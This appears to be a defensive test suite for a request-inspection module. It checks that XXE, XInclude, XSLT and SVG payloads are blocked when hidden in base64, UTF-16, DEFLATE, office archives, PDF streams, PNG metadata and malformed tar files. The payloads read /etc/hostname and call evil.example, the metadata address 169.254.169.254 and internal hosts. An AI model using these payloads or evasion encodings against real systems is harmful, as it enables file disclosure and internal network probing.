import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { deflateRawSync, deflateSync } from 'node:zlib'
import { inspect } from '../src/inspect.ts'
import { pdf, png, tar, zip } from './written-files.ts'

const XML = '<?xml version="1.0"?>'
const PADDING = `<!--${' some words of a licence '.repeat(3_000)}-->`
const ATTACKS: readonly string[] = [
  `${XML}<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>`,
  `${XML}<!DOCTYPE r [<!ENTITY % p PUBLIC "a" "http://evil.example/x.dtd"> %p;]><r/>`,
  `${XML}<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>`,
  `${XML}${PADDING}<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>`,
]
const HONEST: readonly string[] = [
  `${XML}<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd"><html/>`,
  `${XML}<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>`,
  `${XML}<!DOCTYPE r [<!ELEMENT r ANY><!ATTLIST r a CDATA "b">]><r a="b">words</r>`,
  `${XML}<project xmlns="http://maven.apache.org/POM/4.0.0"><modules><module>a</module></modules></project>`,
]

const NOISE = Buffer.from(Array.from({ length: 2_000 }, (_, i) => (i * 7_919) & 255))
const office = (document: Buffer | string): Buffer => zip([{ name: 'word/document.xml', content: document }])
const utf16 = (text: string, order: 'le' | 'be', mark = ''): Buffer => {
  const bytes = Buffer.from(mark + text, 'utf16le')
  return order === 'le' ? bytes : bytes.swap16()
}
const utf32 = (text: string): Buffer => Buffer.from([...text].flatMap(one => [one.charCodeAt(0), 0, 0, 0]))
const hexadecimal = (bytes: Buffer): Buffer => Buffer.from(`${bytes.toString('hex')}>`)
const wrapped = (bytes: Buffer): string => bytes.toString('base64').replace(/.{76}/g, '$&\r\n')

/** Quoted-printable of a text, but for its letters and spaces. */
function quoted(text: string): string {
  return text
    .replace(/[^\w ./:-]/g, sign => `=${sign.charCodeAt(0).toString(16).toUpperCase()}`)
    .replace(/[^=]{60}/g, '$&=\r\n')
}

function post(type: string, body: Buffer | string): string {
  return inspect({
    method: 'POST',
    target: '/import',
    headers: ['content-type', type],
    body: Buffer.from(body as Buffer),
  }).verdict
}

function parts(head: string, content: Buffer | string, kind = 'form-data'): string {
  const body = Buffer.concat([
    Buffer.from(`--b\r\n${head}\r\n\r\n`),
    Buffer.from(content as Buffer),
    Buffer.from('\r\n--b--\r\n'),
  ])
  return post(`multipart/${kind}; boundary=b`, body)
}

const FILE = 'Content-Disposition: form-data; name="f"; filename="a.bin"\r\nContent-Type: a/b'
const upload = (content: Buffer | string): string => parts(FILE, content)
const json = (value: string): string => post('application/json', JSON.stringify({ a: { f: value } }))
const coded = (bytes: Buffer, before = ''): string => json(before + bytes.toString('base64'))

/** Where programs come upon a document. */
const CARRIERS: Readonly<Record<string, (document: string) => string>> = {
  'a file in base64': d => parts(`${FILE}\r\nContent-Transfer-Encoding: base64`, wrapped(Buffer.from(d))),
  'an office file in base64': d => parts(`${FILE}\r\nContent-Transfer-Encoding: BASE64`, wrapped(office(d))),
  'a file in quoted-printable': d =>
    parts(`${FILE}\r\ncontent-transfer-encoding: Quoted-Printable`, quoted(d)),
  'a document in UTF-16 in base64': d =>
    parts(`${FILE}\r\nContent-Transfer-Encoding: base64`, wrapped(utf16(d, 'le', '\ufeff'))),
  'a field in UTF-16': d => parts('Content-Disposition: form-data; name="f"', utf16(d, 'be')),
  'an attachment without a name': d =>
    parts('Content-Type: application/octet-stream\r\nContent-ID: <a>', office(d), 'related'),
  'base64 of UTF-16 with a mark': d => coded(utf16(d, 'le', '\ufeff')),
  'base64 of UTF-16 without a mark': d => coded(utf16(d, 'le')),
  'base64 of big-endian UTF-16': d => coded(utf16(d, 'be', '\ufeff')),
  'base64 of UTF-32': d => coded(utf32(d)),
  'base64 of UTF-16 in a form': d =>
    post('application/x-www-form-urlencoded', `f=${encodeURIComponent(utf16(d, 'le').toString('base64'))}`),
  'base64 of an office file, encoded twice in a form': d =>
    post(
      'application/x-www-form-urlencoded',
      `f=${encodeURIComponent(encodeURIComponent(office(d).toString('base64')))}`,
    ),
  'base64 of an office file in a query': d =>
    inspect({ method: 'GET', target: `/a?f=${office(d).toString('base64url')}`, headers: [] }).verdict,
  'base64 of an office file behind bytes': d => coded(Buffer.concat([NOISE, office(d)])),
  'base64 with signs between its characters': d =>
    json(office(d).toString('base64').replace(/.{30}/g, '$&!')),
  'base64 behind a name': d => coded(office(d), 'a.docx:'),
  'a data URL with parameters': d =>
    coded(office(d), 'data:application/x;name=My%20file.docx;charset=a;base64,'),
  'a data URL with a comma in a name': d => coded(office(d), 'DATA:application/x;name="a, b";BASE64,'),
  'a data URL of a form that lost its plus signs': d =>
    post(
      'application/x-www-form-urlencoded',
      `f=data:application/x;base64,${office(d).toString('base64').replaceAll('=', '%3D')}`,
    ),
  'raw DEFLATE': d => upload(deflateRawSync(d)),
  'base64 of raw DEFLATE': d => coded(deflateRawSync(d)),
  'base64 of zlib': d => coded(deflateSync(d)),
  'a diagram of draw.io': d =>
    upload(
      `<mxfile><diagram name="a">${deflateRawSync(encodeURIComponent(d)).toString('base64')}</diagram></mxfile>`,
    ),
  'a drawing in a drawing': d =>
    upload(
      `<svg xmlns="http://www.w3.org/2000/svg"><image href="data:image/svg+xml;base64,${Buffer.from(d).toString('base64')}"/></svg>`,
    ),
  'an office file in an archive': d => upload(zip([{ name: 'a/b.docx', content: office(d) }])),
  'tar whose sizes are lies': d => {
    const first = tar('a', NOISE)
    first.fill(0x80, 124, 136)
    return upload(Buffer.concat([first, tar('pom.xml', Buffer.from(d))]))
  },
  'packed metadata of PNG': d =>
    upload(png('iTXt', Buffer.concat([Buffer.from('XML:com.adobe.xmp\0\u0001\0\0\0'), deflateSync(d)]))),
  'an old packed text of PNG': d =>
    upload(png('zTXt', Buffer.concat([Buffer.from('XML:com.adobe.xmp\0\0'), deflateSync(d)]))),
  'metadata of JPEG in UTF-16': d =>
    upload(Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), NOISE, utf16(d, 'le')])),
  'metadata of a film': d =>
    upload(Buffer.concat([Buffer.from('\0\0\0\u0018ftypisom'), NOISE, Buffer.from(d)])),
  'metadata behind others': d =>
    upload(Buffer.concat([Buffer.from('GIF89a'), Buffer.from('<!DOCTYPE a>'.repeat(40)), Buffer.from(d)])),
  'a form of PDF': d => upload(pdf(deflateSync(d))),
  'PDF behind bytes': d => upload(Buffer.concat([Buffer.from('\n\n a\n'), pdf(deflateSync(d))])),
  'PDF in UTF-16': d => upload(pdf(deflateSync(utf16(d, 'be', '\ufeff')))),
  'PDF in hexadecimal': d => upload(pdf(hexadecimal(Buffer.from(d)), '/ASCIIHexDecode')),
  'PDF under two filters': d => upload(pdf(hexadecimal(deflateSync(d)), '[/ASCIIHexDecode/FlateDecode]')),
  'PDF behind many streams': d =>
    upload(Buffer.concat([...Array(2_100).fill(pdf(deflateSync('BT'))), pdf(deflateSync(d))])),
  'an archive in PDF': d => upload(pdf(deflateSync(office(d)))),
  'a page of XHTML': d =>
    parts('Content-Disposition: form-data; name="f"; filename="a.xhtml"\r\nContent-Type: a/b', d),
}

describe('documents that have a parser fetch something are found in', () => {
  for (const [kind, verdict] of Object.entries(CARRIERS))
    test(kind, () => {
      for (const document of ATTACKS) {
        if (kind.includes('query') && document.length > 9_000) continue
        assert.notEqual(verdict(document), 'pass', document.slice(-120))
      }
      for (const document of HONEST) assert.equal(verdict(document), 'pass', document)
    })

  test('PDF in ASCII85', () => {
    // `<!DOCTYPE a SYSTEM "http://b.example/c">`, as Python's `base64.a85encode` writes it.
    const content = Buffer.from('4<[*g6W@2b73H"];d!$u784mKBQS?83\\N-q/nK99D/a<&04Q1i~>')
    assert.equal(upload(pdf(content, '/ASCII85Decode')), 'block')
  })
})

const FILL = '<p>some words of a text</p>'
const SVG = 'xmlns="http://www.w3.org/2000/svg"'
const INCLUDING = 'href="file:///etc/hostname" parse="text"'

/** Documents whose elements have something opened. */
const OPENING: readonly string[] = [
  `<r xmlns:i="http://www.w3.org/2001/XIncl&#117;de"><i:include ${INCLUDING}/></r>`,
  '<r xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="&#x66;ile:///etc/hostname"/></r>',
  `<!DOCTYPE r [<!ENTITY n "2001/XInc">]><r xmlns:i="http://www.w3.org/&n;lude"><i:include ${INCLUDING}/></r>`,
  '<!DOCTYPE r [<!ENTITY f "/etc/hostname">]><r xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="&f;"/></r>',
  `<r xmlns:i="http://www.w3.org/2001/XInclude">${FILL.repeat(9_000)}<i:include ${INCLUDING}/></r>`,
  '<r xmlns:o="http://www.w3.org/2004/08/xop/include"><o:Include href="http://evil.example/"/></r>',
  '<s:stylesheet xmlns:s="http://www.w3.org/1999/XSL/Tr&#97;nsform"><s:copy-of select="document(\'/etc/hostname\')"/></s:stylesheet>',
  '<s:stylesheet xmlns:s="http://www.w3.org/1999/XSL/Transform"><s:variable name="f" select="\'/etc/hostname\'"/><s:copy-of select="document($f)"/></s:stylesheet>',
  `<s:stylesheet xmlns:s="http://www.w3.org/1999/XSL/Transform">${FILL.repeat(9_000)}<s:copy-of select="document('/etc/hostname')"/></s:stylesheet>`,
  `<svg ${SVG}><image href="http://169.254.169.254/latest/"/></svg>`,
  `<svg ${SVG}><image href="//10.0.0.5:9200/_cat"/></svg>`,
  `<svg ${SVG} xmlns:l="http://www.w3.org/1999/xlink"><image l:href="http://localhost:8500/v1/kv"/></svg>`,
  `<svg ${SVG} xmlns:l="http://www.w3.org/1999/xlink"><use l:href="f&#105;le:///etc/hostname#a"/></svg>`,
  `<svg ${SVG}><style>@import url("file:///etc/hostname");</style></svg>`,
  `<svg ${SVG}><rect style="fill:url(http://127.0.0.1/a#b)"/></svg>`,
  `<svg ${SVG}>${'<path d="M0 0h1"/>'.repeat(9_000)}<image href="file:///etc/hostname"/></svg>`,
  '<d:definitions xmlns:d="http://schemas.xmlsoap.org/wsdl/"><d:import location="file:///etc/hostname"/></d:definitions>',
  '<r xmlns:d="http://www.w3.org/2000/09/xmldsig#"><d:Reference URI="file:///etc/hostname"/></r>',
  '<grammar xmlns="http://relaxng.org/ns/structure/1.0"><include href="file:///etc/hostname"/></grammar>',
  `${XML}<?oasis-xml-catalog catalog="http://169.254.169.254/c.xml"?><r/>`,
  '<?xml version="1.1"?><!DOCTYPE\u0085r [<!ENTITY\u0085x\u0085SYSTEM\u0085"a.txt">]><r>&x;</r>',
]

describe('elements, and references in them, are read as parsers read them', () => {
  for (const document of OPENING)
    test(document.slice(0, 90) + document.slice(-90), () => {
      assert.equal(upload(document), 'block')
      assert.equal(upload(utf16(document, 'le', '\ufeff')), 'block')
      assert.notEqual(post('application/xml', document), 'pass')
    })

  test('what honest documents name', () => {
    for (const document of [
      `<svg ${SVG}><image href="https://10.example/a.png"/><image href="//metadata.example/b.png"/><use href="#a"/><style>@import url(https://fonts.example/a.css);</style></svg>`,
      `<svg ${SVG}><image href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"/><rect fill="url(#a)"/></svg>`,
      '<r xmlns:i="http://www.w3.org/2001/XInclude" title="a &amp; b"><i:include href="chapter&#49;.xml"/></r>',
      '<r xmlns:d="http://www.w3.org/2000/09/xmldsig#"><d:Reference URI="#_1"/></r>',
      '<r xmlns:o="http://www.w3.org/2004/08/xop/include"><o:Include href="cid:a@b.example"/></r>',
      '<mxfile host="app"><diagram id="a" name="Page">7VjbctowEP0aHpPxBUN4BEKTTJuWKTNN8tQR9mJrIltUlgPk67uypfgGhKRpm5nmBbRH0q52z5GW7fjTeHMpyCq64SGwjueEm45/0fE8d+A6Hc/uOOG2QHru0CmQUNDQmErlQB8BXdKgGQ0hrU2UnDNJV3Uw4EkCgaxhRAi+rk9bclbfdUVC2AMWAWHw6A0NZVSg5/1+id8CDSOzs9sbFp4xMZN1JGlEQr6uQP6s408F57IYxZspMJU8k5di3acjXuuYgCQnC+a+Lf+MHl6Ov08=</diagram></mxfile>',
    ])
      assert.equal(upload(document), 'pass', document)
  })
})
